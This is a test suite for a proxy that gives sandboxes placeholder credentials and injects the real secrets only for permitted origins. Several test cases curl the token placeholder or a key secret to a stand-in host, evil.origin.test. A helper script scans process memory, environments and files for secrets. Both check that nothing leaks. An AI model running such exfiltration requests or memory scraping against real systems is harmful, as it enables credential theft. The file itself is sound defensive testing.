# SPDX-License-Identifier: MIT
"""credentials: the sandbox holds a placeholder, the origin gets the value, and nobody else does."""
import base64
import contextlib
import hashlib
import json
import os
import re
import ssl
import sys
import threading

import pytest

from lib import base
from lib.proxies import credentials as secret_file
from lib.rogues import Rogues, read_head
from lib.sigv4 import Given
from lib.world import FAR

VALUE = "".join(["ghp_", "0123456789abcdefghij", "ABCDEFGHIJ012345"])  # in no file: sandboxes of tests see this one
OTHER = "sk-ant-api03-another/value+with=signs~"
SIGNS = "".join(["wJalrXUtnFEMI", "/K7MDENG/bPxRfiCYEXAMPLEKEY"])

POLICY = """version: 1
credentials:
  github:
    source: {{file: {github}}}
    for: [api.origin.test, "git.origin.test", forged.origin.test]
    as: [bearer, {{basic: x-access-token}}, path]
    placeholder: {{env: GITHUB_TOKEN, like: "ghp_{{36}}", file: git}}
  model:
    source: {{file: {model}}}
    for: model.origin.test
    as: [{{header: X-Api-Key}}, {{query: key}}, form, json]
    placeholder: {{env: MODEL_KEY, like: "sk-ant-api03-{{40}}"}}
    methods: [GET, POST]
    paths: ["/v1/**"]
  injected:
    source: {{file: {model}}}
    for: inject.origin.test
    inject: always
  queried:
    source: {{file: {model}}}
    for: queried.origin.test
    as: {{query: key}}
    inject: always
  low:
    source: {{file: {github}}}
    for: low.origin.test
    levels: [INTERNAL]
    placeholder: {{env: LOW}}
  theirs:
    source: {{file: {github}}}
    for: theirs.origin.test
    scope: [nobody/else]
    placeholder: {{env: THEIRS}}
  named:
    source: {{file: {github}}}
    placeholder: {{env: NAMED, like: jwt}}
  gone:
    source: {{file: /nonexistent/netpawl-secret}}
    for: gone.origin.test
    placeholder: {{env: GONE}}
  aws:
    source: {{file: {aws}}}
    for: s3.origin.test
    as: {{sigv4: {{service: s3, region: eu-test-1}}}}
    placeholder: {{env: AWS_ACCESS_KEY_ID, like: "AKIA{{24}}", file: aws}}
  spoken:
    source: {{command: [/bin/sh, -c, "echo spoken-value-0123; id -u >&2"], ttl: 1h}}
    for: spoken.origin.test
    placeholder: {{env: SPOKEN}}
  later:
    source: {{command: [/bin/sh, -c, "echo later-value-0123; exec <&- >&-; sleep 0.1"], ttl: 1h}}
    for: spoken.origin.test
    placeholder: {{env: LATER}}
  lingers:
    source: {{command: [/bin/sh, -c, "echo lingering-value-0123; exec <&- >&-; exec sleep 600"]}}
    for: spoken.origin.test
    placeholder: {{env: LINGERS}}
levels: {{INTERNAL: proxied}}
rules:
  - allow: named.origin.test
    credential: named
  - allow: ws.origin.test
    websocket: true
  - allow: "**.origin.test"
    capture: 512
"""


class Net(Rogues):
    """Origins that keep what they got, and say no more than that they did."""

    def __init__(self, stack, policy):
        self.got, self.lock = {}, threading.Lock()
        super().__init__(stack, policy, in_memory=True)
        for name in ("api", "git", "model", "inject", "queried", "low", "theirs", "named", "gone", "spoken", "evil", "s3"):
            self.origin(name + ".origin.test", self.keeps(name), 443)
        for name in ("api", "plain"):
            addr = self.names.get(name + ".origin.test", [None])[0]
            self.origin(name + ".origin.test", self.keeps(name + ":80"), 80, addr)

    def keeps(self, name):
        def handler(c):
            while True:
                head = read_head(c)
                head, _, body = head.partition(b"\r\n\r\n")
                lines = head.decode("latin-1").lower().split("\r\n")
                fields = dict(l.split(": ", 1) for l in lines[1:])
                while "content-length" in fields and len(body) < int(fields["content-length"]):
                    body += c.recv(65536)
                while fields.get("transfer-encoding") == "chunked" and not body.endswith(b"0\r\n\r\n"):
                    body += c.recv(65536)
                with self.lock:
                    self.got.setdefault(name, []).append((head.decode("latin-1"), body))
                c.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nserved")

        return handler

    def last(self, name=None):
        if name is None:
            return super().last()
        return self.got[name][-1]

    def sh(self, script, session=None):
        """A shell in a sandbox, whose environment has the placeholders."""
        p = self.spawn("sh", "-c", script, session=session, stdout=-1, stderr=-1)
        out, err = p.communicate(timeout=240)
        print(script, p.returncode, out, err)
        return out.decode()

    def curl(self, words, session=None):
        return self.sh("curl -sS -m 60 " + words, session)


@pytest.fixture(scope="module")
def net():
    with contextlib.ExitStack() as stack:
        github = stack.enter_context(secret_file(VALUE.encode() + b"\n"))
        model = stack.enter_context(secret_file(OTHER.encode()))
        aws = stack.enter_context(secret_file(f"AKIDREAL:{SIGNS}".encode()))
        text = POLICY.format(github=github, model=model, aws=aws)
        n = Net(stack, text)
        n.files = {"github": github, "model": model}
        n.text = n.policy.read_text()
        assert base.eventually(lambda: state(n, "spoken") == "ready"), listed(n)
        yield n
        assert n.daemon.running() and " ended: " not in n.daemon.text(), n.daemon.text()[-3000:]


def listed(net):
    status, got = net.api.ask("GET", "/v1/credentials")
    assert status == 200
    return {c["name"]: c for c in got["credentials"]}


def state(net, name):
    return listed(net)[name]["state"]


def placeholders(net, session=None):
    status, got = net.api.ask("GET", f"/v1/sessions/{session or net.session}/placeholders")
    assert status == 200, got
    return {p["name"]: p["placeholder"] for p in got["placeholders"]}


def event(net, after, **want):
    return net.events(lambda e: all(e.get(k) == v for k, v in want.items()), after=after)[-1]


# -- it works ---------------------------------------------------------------------------------------

def test_bearer(net):
    after = net.last()
    assert net.curl('-H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/user') == "served"
    head, _ = net.last("api")
    assert f"uthorization: bearer {VALUE}\r\n".lower() in (head + "\r\n").lower()
    got = event(net, after, url="https://api.origin.test/user")
    assert got["credential"] == "github" and got["reason"] == "rule_allows"
    assert listed(net)["github"]["uses"] >= 1 and listed(net)["github"]["used"]


def test_the_placeholder_looks_like_the_value_and_is_not_it(net):
    text = net.sh('printf %s "$GITHUB_TOKEN"')
    assert text == placeholders(net)["github"] and len(text) == len(VALUE) and text.startswith("ghp_") and text != VALUE
    assert net.sh('printf %s "$GITHUB_TOKEN"') == text


def test_a_placeholder_in_the_shape_of_a_jwt(net):
    head, payload, signature = placeholders(net)["named"].split(".")
    pad = lambda t: base64.urlsafe_b64decode(t + "=" * (-len(t) % 4))
    assert json.loads(pad(head)) == {"alg": "HS256", "typ": "JWT"} and json.loads(pad(payload))["exp"] > 4e9 and len(pad(signature)) == 32
    assert net.curl('-H "Authorization: Bearer $NAMED" https://named.origin.test/') == "served"
    assert f"bearer {VALUE}".lower() in net.last("named")[0].lower()


def test_basic_is_decoded_and_encoded_again(net):
    assert net.curl('-u "someone:$GITHUB_TOKEN" https://api.origin.test/basic') == "served"
    assert base64.b64encode(f"someone:{VALUE}".encode()).decode() in net.last("api")[0]
    assert net.curl('-u "$GITHUB_TOKEN:" https://api.origin.test/basic') == "served"
    assert base64.b64encode(f"{VALUE}:".encode()).decode() in net.last("api")[0]


def test_a_header_of_its_own_and_a_parameter(net):
    assert net.curl('-H "X-Api-Key: $MODEL_KEY" https://model.origin.test/v1/a') == "served"
    assert f"x-api-key: {OTHER}".lower() in net.last("model")[0].lower()
    assert net.curl('"https://model.origin.test/v1/b?a=1&key=$MODEL_KEY&c=2"') == "served"
    assert "/v1/b?a=1&key=sk-ant-api03-another%2Fvalue%2Bwith%3Dsigns~&c=2 " in net.last("model")[0]


def test_the_path(net):
    assert net.curl('"https://api.origin.test/bot$GITHUB_TOKEN/send"') == "served"
    assert f"GET /bot{VALUE}/send HTTP/1.1" in net.last("api")[0]


def test_a_form(net):
    assert net.curl('--data "grant=x&secret=$MODEL_KEY&z=1" https://model.origin.test/v1/form') == "served"
    assert b"grant=x&secret=sk-ant-api03-another%2Fvalue%2Bwith%3Dsigns~&z=1" in net.last("model")[1]


def test_json_across_chunks(net):
    script = """
import os, socket, ssl
c = ssl.create_default_context()
s = c.wrap_socket(socket.create_connection(("model.origin.test", 443)), server_hostname="model.origin.test")
k = os.environ["MODEL_KEY"].encode()
body = b'{"key": "' + k + b'", "again": "' + k + b'", "rest": "sk-ant-api0"}'
s.sendall(b"POST /v1/json HTTP/1.1\\r\\nHost: model.origin.test\\r\\nContent-Type: application/json; charset=utf-8\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
for i in range(0, len(body), 7):
    s.sendall(b"%x\\r\\n%s\\r\\n" % (len(body[i:i+7]), body[i:i+7]))
s.sendall(b"0\\r\\n\\r\\n")
print(s.recv(1000).split(b"\\r\\n")[0].decode())
"""
    assert "200 OK" in net.sh(f"{base.PYTHON} -c '{script.replace(chr(39), chr(39) + chr(92) + chr(39) + chr(39))}'")
    body = net.last("model")[1]
    pieces, rest = b"", body
    if b'{"key"' in body and not body.startswith(b'{"key"'):
        while rest:
            size, _, rest = rest.partition(b"\r\n")
            pieces += rest[: int(size, 16)]
            rest = rest[int(size, 16) + 2 :]
    else:
        pieces = body
    assert json.loads(pieces) == {"key": OTHER, "again": OTHER, "rest": "sk-ant-api0"}


def test_always(net):
    assert net.curl('-H "Authorization: Bearer mine" -H "authorization: basic eDp5" https://inject.origin.test/') == "served"
    lines = [l for l in net.last("inject")[0].lower().split("\r\n") if l.startswith("authorization")]
    assert lines == [f"authorization: bearer {OTHER}".lower()]
    assert net.curl('"https://queried.origin.test/x?key=mine&a=1&k%65y=also"') == "served"
    assert "GET /x?a=1&key=sk-ant-api03-another%2Fvalue%2Bwith%3Dsigns~ " in net.last("queried")[0]


def test_a_command_is_a_source(net):
    assert net.curl('-H "Authorization: Bearer $SPOKEN" https://spoken.origin.test/') == "served"
    assert "spoken-value-0123" in net.last("spoken")[0]
    assert listed(net)["spoken"]["expires"]


def test_a_command_has_a_moment_to_end_and_no_longer(net):
    """Its value counts when it has ended well, and nobody waits for that."""
    assert base.eventually(lambda: listed(net)["later"]["expires"], 30), listed(net)["later"]
    assert net.curl('-H "Authorization: Bearer $LATER" https://spoken.origin.test/') == "served"
    assert "later-value-0123" in net.last("spoken")[0]
    assert base.eventually(lambda: "did not end in time" in str(listed(net)["lingers"]), 30), listed(net)["lingers"]


def check_signature(net, method, target, body=b""):
    """What the origin got last is what whoever has the key would have signed."""
    fields = {k.lower(): v for k, v in (l.split(": ", 1) for l in net.last("s3")[0].split("\r\n")[1:])}
    given = Given(fields)
    assert (given.id, given.region, given.service) == ("AKIDREAL", "eu-test-1", "s3")
    assert given.is_right(SIGNS, method, target, body) and not given.is_right(SIGNS + "x", method, target, body)
    assert SIGNS not in net.last("s3")[0]


def test_aws_is_signed_anew(net):
    """curl signs with the placeholder."""
    empty = hashlib.sha256(b"").hexdigest()
    sign = '--aws-sigv4 aws:amz:us-east-1:s3 -u "$AWS_ACCESS_KEY_ID:not-a-secret"'
    assert net.curl(f'{sign} -H "x-amz-content-sha256: {empty}" "https://s3.origin.test/bucket/a%20key?list-type=2&prefix=b"') == "served"
    check_signature(net, "GET", "/bucket/a%20key?list-type=2&prefix=b")
    before = len(net.got["s3"])
    got = json.loads(net.curl(f'{sign} "https://s3.origin.test/?X-Amz-Signature=0"'))
    assert got["reason"] == "credential_elsewhere" and "presigned" in got["message"] and len(net.got["s3"]) == before
    got = json.loads(net.curl(f'{sign} -H "x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD" -d x https://s3.origin.test/'))
    assert got["reason"] == "credential_elsewhere" and "chunk by chunk" in got["message"] and len(net.got["s3"]) == before
    got = json.loads(net.curl(f'{sign} https://evil.origin.test/'))
    assert got["reason"] == "credential_elsewhere"
    assert placeholders(net)["aws"] in net.sh("cat $AWS_SHARED_CREDENTIALS_FILE")


SIGNED = ('-H "authorization: AWS4-HMAC-SHA256 Credential=$AWS_ACCESS_KEY_ID/20261118/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, '
          'Signature=00" -H "x-amz-date: 20261118T000000Z" -H "content-type: application/x-amz-json-1.0"')


@pytest.mark.parametrize("words", ["--http1.1", "--http2", '--http1.1 -H "expect: 100-continue"'])
@pytest.mark.parametrize("size", [10, 150000])
def test_a_body_whose_hash_the_client_does_not_say(net, words, size):
    """As clients of all services but S3: the request waits for its body, whose hash is signed."""
    body = b"b" * size
    assert net.sh(f"head -c {size} /dev/zero | tr '\\0' b | curl -sS -m 60 {words} {SIGNED} -d @- https://s3.origin.test/") == "served"
    assert net.last("s3")[1] == body
    check_signature(net, "POST", "/", body)


@pytest.mark.parametrize("size, words", [(300000, ""), (10, '-H "transfer-encoding: chunked"')])
def test_one_that_is_long_or_of_no_length_is_refused_with_words(net, size, words):
    before = len(net.got.get("s3", []))
    got = json.loads(net.sh(f"head -c {size} /dev/zero | tr '\\0' b | curl -sS -m 60 {words} {SIGNED} -d @- https://s3.origin.test/"))
    assert got["reason"] == "credential_elsewhere" and "x-amz-content-sha256" in got["message"] and len(net.got.get("s3", [])) == before


def test_the_secret_of_a_key_does_not_leave(net):
    """Of KEY_ID:SECRET, the secret alone is searched for."""
    got = json.loads(net.curl(f"-d 'it is {SIGNS}' https://evil.origin.test/"))
    assert got["reason"] == "secret_leaving"
    assert net.curl("-d 'it is AKIDREAL' https://evil.origin.test/") == "served"  # the control: the id says nothing


def test_git_asks_its_helper(net):
    out = net.sh("printf 'protocol=https\\nhost=git.origin.test\\n\\n' | git credential fill")
    assert f"username=x-access-token\npassword={placeholders(net)['github']}" in out


def test_the_command_line(net):
    got = net.daemon.cli("credentials")
    assert got.returncode == 0 and "github" in got.stdout and "api.origin.test" in got.stdout and VALUE not in got.stdout
    rows = {line.split()[0]: line for line in got.stdout.splitlines()}
    assert re.match(r"NAME +STATE +SOURCE +FOR +AGE +LAST USED +USES +TOKENS +PROBLEM$", rows["NAME"])
    assert re.match(r"github +ready +file +api.origin.test, git.origin.test, forged.origin.test +\d+[smh] +(\d+[smh] ago|never) +\d+ +- +-$", rows["github"])
    assert re.match(r"gone +missing +file +gone.origin.test +- +never +0 +- +No such file", rows["gone"])
    assert " rules that name it " in rows["named"]
    got = net.daemon.cli("credentials", "test", "github")
    assert got.returncode == 0 and [line.split()[0] for line in got.stdout.splitlines()] == ["NAME", "github"]
    assert net.daemon.cli("credentials", "test", "spoken").returncode == 0
    assert net.daemon.cli("credentials", "test", "gone").returncode == 1
    assert net.daemon.cli("credentials", "test", "nobody").returncode == 1
    assert net.daemon.cli("credentials", "tset").returncode == 2
    assert {c["name"] for c in json.loads(net.daemon.cli("credentials", "--json").stdout)["credentials"]} == set(listed(net))
    folder = base.tempdir("trust")
    try:
        got = net.daemon.cli("env", net.session, "--dir", folder).stdout
        assert f"export GITHUB_TOKEN='{placeholders(net)['github']}'" in got
    finally:
        base.drop_tempdir(folder)


def test_the_python_client(net):
    sys.path.insert(0, str(base.ROOT / "clients/python"))
    import netpawl

    session = netpawl.Session(*net.session.split("/"), path=str(net.daemon.socket))
    assert session.credential("github") == placeholders(net)["github"]
    with pytest.raises(netpawl.Error):
        session.credential("theirs")


# -- only where it belongs ------------------------------------------------------------------------------

@pytest.mark.parametrize("words", [
    '-H "Authorization: Bearer $GITHUB_TOKEN" https://evil.origin.test/',
    '-H "X-Any: a $GITHUB_TOKEN b" https://evil.origin.test/',
    '-u "u:$GITHUB_TOKEN" https://evil.origin.test/',
    '"https://evil.origin.test/$GITHUB_TOKEN"',
    '"https://evil.origin.test/?q=$GITHUB_TOKEN"',
    '--data "some text $GITHUB_TOKEN and more" https://evil.origin.test/',
    '-H "Content-Type: application/json" --data "[\\"$GITHUB_TOKEN\\"]" https://evil.origin.test/',
    '-H "Authorization: Bearer $GITHUB_TOKEN" http://api.origin.test/',
    '-H "X-Other: $GITHUB_TOKEN" https://api.origin.test/',
    '"https://api.origin.test/?q=$GITHUB_TOKEN"',
    '--data "token=$GITHUB_TOKEN" https://api.origin.test/',
    '-X TRACE -H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/',
    '-H "X-Api-Key: $MODEL_KEY" https://model.origin.test/v2/a',
    '-X DELETE -H "X-Api-Key: $MODEL_KEY" https://model.origin.test/v1/a',
    '-H "X-Api-Key: $MODEL_KEY" https://api.origin.test/v1/a',
    '"https://model.origin.test/v1/a?other=$MODEL_KEY"',
    '-H "Authorization: Bearer $NAMED" https://evil.origin.test/',
])
def test_elsewhere_it_is_refused(net, words):
    after, before = net.last(), {k: len(v) for k, v in net.got.items()}
    got = json.loads(net.curl(words))
    assert got["reason"] == "credential_elsewhere"
    assert {k: len(v) for k, v in net.got.items()} == before
    seen = net.events(lambda e: e["reason"] == "credential_elsewhere", after=after)[-1]
    assert seen["credential"] in ("github", "model", "named")
    # the same request without the placeholder gets through
    assert net.curl(words.replace("$GITHUB_TOKEN", "nothing").replace("$MODEL_KEY", "nothing").replace("$NAMED", "x")) == "served"


def test_a_redirect_is_a_new_request(net):
    """curl hands its header on to whoever it is sent to: the second request is refused."""
    def sends_on(c):
        head = read_head(c)
        net.got.setdefault("sends", []).append((head.decode("latin-1"), b""))
        c.sendall(b"HTTP/1.1 302 Found\r\nlocation: https://evil.origin.test/got\r\ncontent-length: 0\r\n\r\n")
        c.recv(1)

    net.names["git.origin.test"] = [net.host("sends.origin.test")]
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(*net.origins.authority.leaf("git.origin.test"))
    net.listen(net.world.far, net.names["git.origin.test"][0], 443, sends_on, tls)
    before = len(net.got.get("evil", []))
    asked = '--location-trusted -H "Authorization: Bearer {}" https://git.origin.test/'
    assert json.loads(net.curl(asked.format("$GITHUB_TOKEN")))["reason"] == "credential_elsewhere"
    assert VALUE in net.got["sends"][-1][0] and len(net.got.get("evil", [])) == before
    assert net.curl(asked.format("nothing")) == "served"  # the control


@pytest.mark.parametrize("sni,host,reason", [("evil", "api", "host_mismatch"), ("api", "evil", "host_mismatch"), ("api", "api", None)])
def test_the_name_of_tls_and_of_the_request_are_one(net, sni, host, reason):
    before = {k: len(v) for k, v in net.got.items()}
    word = placeholders(net)["github"]
    got = net.raw(f"GET /sni HTTP/1.1\r\nHost: {host}.origin.test\r\nAuthorization: Bearer {word}\r\nConnection: close\r\n\r\n", port=443,
                  sni=f"{sni}.origin.test", until=["0\r\n\r\n", "hint"]).decode()
    if reason:
        assert reason in got and {k: len(v) for k, v in net.got.items()} == before
    else:
        assert "200 OK" in got and VALUE in net.last("api")[0]


def test_an_origin_that_cannot_prove_its_name_gets_nothing(net):
    """Its certificate is for another one."""
    def listen(addr, name):
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(*net.origins.authority.leaf(name))
        net.listen(net.world.far, addr, 443, net.keeps("forged"), tls)

    asked = '-H "Authorization: Bearer $GITHUB_TOKEN" https://forged.origin.test/'
    listen(net.host("forged.origin.test"), "api.origin.test")
    assert json.loads(net.curl(asked))["reason"] == "origin_untrusted" and "forged" not in net.got
    listen(net.host("forged.origin.test"), "forged.origin.test")  # the control, at another address
    assert base.eventually(lambda: net.curl(asked) == "served") and VALUE in net.last("forged")[0]


def test_what_a_session_may_not_use_is_not_offered(net):
    assert "theirs" not in placeholders(net) and "low" not in placeholders(net)
    assert net.sh('echo "<$THEIRS$LOW>"') == "<>\n"


def test_another_sessions_placeholder_is_worth_nothing(net):
    other = net.new_session()
    mine, theirs = placeholders(net)["github"], placeholders(net, other)["github"]
    assert mine != theirs
    assert net.curl(f'-H "Authorization: Bearer {mine}" https://api.origin.test/x', session=other) == "served"
    assert mine.lower() in net.last("api")[0].lower() and VALUE.lower() not in net.last("api")[0].lower()


def test_a_source_that_gives_nothing_refuses(net):
    after = net.last()
    got = json.loads(net.curl('-H "Authorization: Bearer $GONE" https://gone.origin.test/'))
    assert got["reason"] == "credential_missing" and "gone" in got["message"] and "gone" not in net.got
    assert event(net, after, reason="credential_missing")["credential"] == "gone"
    assert listed(net)["gone"]["state"] == "missing" and "No such file" in listed(net)["gone"]["problem"]


# -- it goes ----------------------------------------------------------------------------------------------

def test_a_rise_beyond_its_levels_takes_it_away(net):
    session = net.new_session("INTERNAL")
    word = placeholders(net, session)["low"]
    asked = f'-H "Authorization: Bearer {word}" https://low.origin.test/'
    assert net.curl(asked, session=session) == "served"
    net.raise_to(session, "CONFIDENTIAL")
    assert json.loads(net.curl(asked, session=session))["reason"] == "credential_elsewhere"
    assert "low" not in placeholders(net, session)


def explained(net, session, url, method="GET"):
    """What the command and the API say of credentials: the same, and no value."""
    p = net.daemon.cli("policy", "explain", "--live", session, "--url", url, "--method", method, check=0)
    got = json.loads(net.daemon.cli("--json", "policy", "explain", "--live", session, "--url", url, "--method", method, check=0).stdout)
    status, said = net.api.ask("POST", f"/v1/sessions/{session}/explain", {"method": method, "url": url})
    assert status == 200 and said["credentials"] == got["credentials"], (said, got)
    assert not any(v in p.stdout + json.dumps([got, said]) for v in (VALUE, OTHER, SIGNS, "spoken-value"))
    for c in got["credentials"]:
        assert f"  secret  {c['name']}" + (f" does not go with it: {c['why']}\n" if c["why"] else f": as {', '.join(c['as'])}\n") in p.stdout
    return {c["name"]: c["why"] for c in got["credentials"]}


def test_explain_knows_what_a_session_carries_now(net):
    session = net.new_session("INTERNAL")
    low = f'-H "Authorization: Bearer {placeholders(net, session)["low"]}" https://low.origin.test/'
    assert explained(net, session, "https://low.origin.test/") == {"low": None} and net.curl(low, session=session) == "served"
    assert explained(net, session, "https://model.origin.test/v1/x", "POST") == {"model": None}
    assert explained(net, session, "https://named.origin.test/") == {"named": None}
    assert explained(net, session, "https://spoken.origin.test/") == {"spoken": None, "later": None, "lingers": None}
    assert explained(net, session, "https://evil.origin.test/") == {}
    assert explained(net, session, "http://api.origin.test/") == {"github": "the request goes without TLS"}
    assert explained(net, session, "https://model.origin.test/other") == {"model": "it is for other methods or paths"}
    assert explained(net, session, "https://theirs.origin.test/") == {"theirs": "it is for other sessions or classes of runs"}
    assert explained(net, session, "https://s3.origin.test/", "TRACE") == {"aws": "an answer to TRACE would show it"}
    net.raise_to(session, "CONFIDENTIAL")
    assert explained(net, session, "https://low.origin.test/") == {"low": "it is not for this level"}
    assert json.loads(net.curl(low, session=session))["reason"] == "credential_elsewhere"
    net.raise_to(session, "SECRET")
    assert explained(net, session, "https://low.origin.test/") == {"low": "the request is refused"}


def test_a_rise_ends_what_is_under_way(net):
    session, began = net.new_session("INTERNAL"), threading.Semaphore(0)
    both = threading.Semaphore(0)

    def hangs(c):
        began.release() if b"authorization" in read_head(c).lower() else both.release()
        c.recv(1)

    net.origin("slow.origin.test", hangs, 443)
    net.policy.write_text(net.text.replace("for: low.origin.test", "for: [low.origin.test, slow.origin.test]"))
    assert net.api.ask("POST", "/v1/policy/reload")[0] == 200
    try:
        word, after = placeholders(net, session)["low"], net.last()
        p = net.spawn("curl", "-sS", "-m", "60", "-H", f"Authorization: Bearer {word}", "https://slow.origin.test/", session=session, stdout=-1)
        q = net.spawn("curl", "-sS", "-m", "60", "https://slow.origin.test/without", session=session, stdout=-1)
        assert began.acquire(timeout=60) and both.acquire(timeout=60)
        net.raise_to(session, "CONFIDENTIAL")
        assert json.loads(p.communicate(timeout=60)[0])["reason"] == "ended_by_raise"
        assert q.poll() is None  # the control: what carries nothing goes on
        seen = net.api.wait_events(lambda got: [e for e in got if e["reason"] == "ended_by_raise"], session=session, after=after)
        assert [e["credential"] for e in seen if e["reason"] == "ended_by_raise" and e.get("url")] == ["low"]
    finally:
        base.reap(q)
        net.policy.write_text(net.text)
        assert net.api.ask("POST", "/v1/policy/reload")[0] == 200


def test_rotation(net):
    path = net.files["github"]
    try:
        path.write_text("another-value-0123456789\n")
        assert net.curl('-H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/') == "served"
        assert VALUE.lower() in net.last("api")[0].lower()
        status, got = net.api.ask("POST", "/v1/credentials/github/refresh")
        assert status == 200 and got["state"] == "ready"
        assert net.curl('-H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/') == "served"
        assert "another-value-0123456789" in net.last("api")[0]
        path.chmod(0o644)
        assert net.api.ask("POST", "/v1/credentials/github/refresh")[1]["state"] == "missing"
        got = json.loads(net.curl('-H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/'))
        assert got["reason"] == "credential_missing"
    finally:
        path.chmod(0o600)
        path.write_text(VALUE + "\n")
        assert net.api.ask("POST", "/v1/credentials/github/refresh")[1]["state"] == "ready"
    assert net.api.ask("POST", "/v1/credentials/nobody/refresh")[0] == 404


# -- the value is nowhere -----------------------------------------------------------------------------------

SEARCH = """
import os, sys
wanted, found = [w[::-1].encode() for w in sys.argv[1:]], 0
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError:
            continue
        found += any(w in text for w in wanted)
    try:
        maps, mem = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb")
    except OSError:
        continue
    for line in maps:
        if int(pid) == os.getpid() or line.split()[1][0] != "r":
            continue
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            mem.seek(start)
            text = mem.read(min(end - start, 64 << 20))
        except (OSError, ValueError, OverflowError):
            continue
        found += any(w in text for w in wanted)
for top in ("/run", "/workspace", "/tmp", "/etc"):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                text = open(os.path.join(folder, name), "rb").read(1 << 20) if os.path.isfile(os.path.join(folder, name)) else b""
            except OSError:
                continue
            if any(w in text for w in wanted):
                found += 1
                print(folder, name)
print("found", found)
"""


def test_the_sandbox_never_holds_it(net):
    """Every process, variable and file of a sandbox in which curl keeps a connection open: the placeholder is there, the value is not."""
    def search(word):
        return net.sh('curl -sS -m 60 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.origin.test/m & sleep 0; '
                      f"{base.PYTHON} - {word[::-1]} <<'EOF'\n{SEARCH}\nEOF\nwait")

    assert "found 0" in search(VALUE)
    assert "found 0" not in search(placeholders(net)["github"])  # the control


def test_no_record_holds_it(net):
    assert net.curl('-H "Authorization: Bearer $GITHUB_TOKEN" --data "x" "https://api.origin.test/bot$GITHUB_TOKEN/y"') == "served"
    event(net, 0, method="POST", url=f"https://api.origin.test/bot{placeholders(net)['github']}/y")
    wanted = [VALUE.encode(), OTHER.encode(), base64.b64encode(VALUE.encode())[:-4]]
    for folder in (net.daemon.state_dir, net.daemon.run_dir):
        for top, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(top, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    text = open(path, "rb").read()
                    assert not [w for w in wanted if w in text], path
    har, word = net.daemon.cli("har", "--session", net.session).stdout, placeholders(net)["github"]
    assert f"https://api.origin.test/bot{word}/y" in har and '"user-agent"' in har.lower(), "the control: it has this request, and what was captured of it"
    for text in (har, net.daemon.cli("events", "--session", net.session, "--json").stdout, net.daemon.cli("credentials").stdout,
                 net.daemon.cli("why", net.session).stdout, *(open(f"/proc/{pid}/cmdline").read() for pid in (net.daemon.process.pid, *net.daemon.workers()))):
        assert text and not [w for w in wanted if w.decode() in text]
    for path in ("/v1/credentials", "/v1/policy", "/v1/policy/source", "/v1/health", "/v1/events", "/v1/metrics", f"/v1/sessions/{net.session}/placeholders"):
        text = net.api.raw("GET", path)[2]
        assert not [w for w in wanted if w in text], path
    assert VALUE not in net.daemon.text() and OTHER not in net.daemon.text()


def test_dumps_leave_it_out(net):
    """The daemon's and the inspectors' memory with values is locked and not for dumps: VmFlags say so wherever a value is kept."""
    wanted = {"dd", "wf"} | (set() if base.SAN else {"lo"})  # AddressSanitizer makes nothing of mlock()
    for pid in [net.daemon.process.pid, *net.daemon.workers()]:
        kept = 0
        flags = {}
        current = None
        for line in open(f"/proc/{pid}/smaps"):
            if "-" in line.split()[0] and ":" not in line.split()[0]:
                current = tuple(int(x, 16) for x in line.split()[0].split("-"))
            elif line.startswith("VmFlags:"):
                flags[current] = line.split()[1:]
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for (start, end), words in flags.items():
                if "rd" not in words or end - start > 1 << 20:
                    continue
                try:
                    mem.seek(start)
                    text = mem.read(end - start)
                except (OSError, ValueError):
                    continue
                if text.startswith(VALUE.encode()):
                    kept += 1
                    assert wanted <= set(words), (pid, words)
        assert kept, pid
        if pid != net.daemon.process.pid:
            assert "0 " in [l for l in open(f"/proc/{pid}/limits") if "core file" in l][0]


def test_a_restart_keeps_the_placeholders(net):
    before = placeholders(net)
    net.daemon.stop()
    net.daemon.start()
    assert base.eventually(lambda: net.api.health()["inspectors"] == 2)
    assert placeholders(net) == before
